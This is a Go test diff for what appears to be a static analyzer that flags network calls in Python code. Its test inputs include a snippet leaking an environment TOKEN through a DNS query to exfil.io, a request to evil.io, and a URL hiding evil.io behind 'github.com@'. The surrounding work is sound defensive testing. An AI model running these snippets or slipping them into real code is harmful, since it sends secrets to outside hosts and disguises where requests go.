@@ -740,3 +740,14 @@ pathlib.Path.read_text(None)
 		t.Fatalf("parse errors: %+v", f.ParseErrors)
 	}
 }
+
+func TestMoreNetworkAPIs(t *testing.T) {
+	f, _ := analyzeSrc("import dns.resolver, os\ndns.resolver.resolve(os.environ['TOKEN'] + '.exfil.io', 'A')")
+	if n := wantNet(t, f, "exfil.io", 0, "dns.resolver.resolve"); !n.DataInHost {
+		t.Errorf("dns: %+v", n)
+	}
+	f, _ = analyzeSrc("import urllib.request\nurllib.request.build_opener().open('https://evil.io/x')")
+	wantNet(t, f, "evil.io", 443, "urllib.request.OpenerDirector.open")
+	f, _ = analyzeSrc("import requests\nrequests.get('https://github.com@evil.io/x')")
+	wantNet(t, f, "evil.io", 443, "requests.get")
+}
